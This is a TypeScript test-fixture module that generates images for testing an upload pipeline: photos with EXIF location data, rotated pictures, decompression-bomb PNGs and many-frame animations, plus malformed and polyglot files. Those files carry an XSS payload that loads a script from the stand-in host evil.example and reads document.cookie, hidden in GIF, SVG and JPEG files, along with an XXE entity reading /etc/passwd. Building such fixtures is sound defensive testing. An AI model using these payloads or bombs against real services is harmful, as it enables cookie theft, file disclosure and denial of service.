import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

async function noise(width: number, height: number): Promise<Sharp> {
  const grain = { width: 64, height: 48, channels: 3 as const, background: '#888' };
  const made = await sharp({
    create: { ...grain, noise: { type: 'gaussian', mean: 128, sigma: 30 } },
  })
    .png()
    .toBuffer();
  return sharp(made).resize({ width, height, fit: 'fill', kernel: 'nearest' });
}

/** Returns a photo with the location and model that phones add. */
export async function photo(
  width: number = 640,
  height: number = 480,
  format: 'jpeg' | 'png' | 'webp' = 'jpeg',
): Promise<Buffer> {
  return (await noise(width, height))
    .withExif({
      IFD0: { Copyright: 'Somebody', Model: 'Phone 1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 12/1 0/1' },
    })
    .toFormat(format)
    .toBuffer();
}

/**
 * Returns a picture with a red left and a blue right half, stored turned by 90° with an EXIF tag.
 * @param times multiple of 400 × 300
 */
export async function turnedPhoto(times = 1): Promise<Buffer> {
  const [width, height] = [400 * times, 300 * times];
  const half = (background: string) =>
    sharp({ create: { width: width / 2, height, channels: 3, background } })
      .png()
      .toBuffer();
  const upright = await sharp({
    create: { width, height, channels: 3, background: '#000' },
  })
    .composite([
      { input: await half('#f00'), left: 0, top: 0 },
      { input: await half('#00f'), left: width / 2, top: 0 },
    ])
    .png()
    .toBuffer();
  // Tag 6: viewers have to turn it clockwise.
  return sharp(upright).rotate(270).withMetadata({ orientation: 6 }).jpeg().toBuffer();
}

interface PlainPng {
  width: number;
  height: number;
  /** Bits of each channel. */
  depth?: 1 | 8 | 16;
  /** PNG's colour type, 0: grey, 6: RGBA. */
  colour?: 0 | 6;
  /** Length of a text before its compression, in bytes; no text by default. */
  text?: number;
  /** Length of the pixel data before its compression, bytes; by default, it fits the size. */
  bytes?: number;
}

/** Returns a PNG whose pixels are all the same, so that a small file contains many pixels. */
export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: PlainPng): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = depth;
  header[9] = colour;
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const channels = colour === 6 ? 4 : 1;
  // Each row: its filter, then its bits.
  const rows = bytes ?? height * (1 + Math.ceil((width * channels * depth) / 8));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    ...(text === undefined
      ? []
      : [chunk('zTXt', Buffer.concat([Buffer.from('k\0\0'), deflateSync(Buffer.alloc(text))]))]),
    chunk('IDAT', deflateSync(Buffer.alloc(rows))),
    chunk('IEND', Buffer.of()),
  ]);
}

/** Returns pictures that cost much more to decode than their size suggests. */
export async function costlyFiles(): Promise<Record<string, Buffer>> {
  const frames = await Promise.all(Array.from({ length: 300 }, () => photo(16, 16)));
  return {
    'a PNG one pixel wide and 50,000,000 high': plainPng({ width: 1, height: 50_000_000 }),
    'a PNG 16,385 pixels wide and one high': plainPng({ width: 16_385, height: 1 }),
    'a PNG of 900 million pixels': plainPng({ width: 30_000, height: 30_000, depth: 1 }),
    'a PNG of 49 million pixels of eight bytes': plainPng({
      width: 7_000,
      height: 7_000,
      depth: 16,
      colour: 6,
      bytes: 1_000,
    }),
    'a PNG 16,384 pixels wide and one high': plainPng({ width: 16_384, height: 1 }),
    'a PNG of 100 pixels in 200 MB': plainPng({ width: 10, height: 10, bytes: 200_000_000 }),
    'a PNG with 200 MB of text': plainPng({ width: 10, height: 10, text: 200_000_000 }),
    'a WebP of 300 frames': await sharp(frames, { join: { animated: true } })
      .webp()
      .toBuffer(),
    'a GIF of 300 frames': await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer(),
  };
}

export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';

/** Returns files that are not a picture, are incomplete, or contain something else too. */
export async function oddFiles(): Promise<Record<string, Buffer>> {
  const jpeg = await photo();
  const commentary = Buffer.from(`*/=1;${script}/*`);
  // FF FE: a comment, with its length.
  const comment = Buffer.concat([
    Buffer.of(0xff, 0xfe, (commentary.length + 2) >> 8, (commentary.length + 2) & 255),
    commentary,
  ]);
  return {
    'a GIF that is a script as well': Buffer.from(`GIF89a=1;${script}`),
    'a PDF called a JPEG': Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>%%EOF',
    ),
    'an SVG': Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    ),
    'an SVG behind an XML head': Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ),
    'a page': Buffer.from(`<!doctype html><script>${script}</script>`),
    'a JPEG that is a script in its comment': Buffer.concat([
      jpeg.subarray(0, 2),
      comment,
      jpeg.subarray(2),
    ]),
    'a JPEG with a script behind it': Buffer.concat([jpeg, Buffer.from(script)]),
    'a JPEG with an archive behind it': Buffer.concat([jpeg, Buffer.from('PK\x03\x04 x.html')]),
    'a JPEG cut off in the middle': jpeg.subarray(0, jpeg.length >> 1),
    'the head of a JPEG': jpeg.subarray(0, 20),
    'the head of a JPEG with a script': Buffer.concat([
      Buffer.of(0xff, 0xd8, 0xff, 0xe0),
      Buffer.from(script),
    ]),
    'a PNG cut off': (await photo(64, 64, 'png')).subarray(0, 2_000),
    'a WebP cut off': (await photo(64, 64, 'webp')).subarray(0, 400),
    'one byte': Buffer.of(0xff),
    'a program': Buffer.from('\x7fELF\x02\x01\x01'),
  };
}
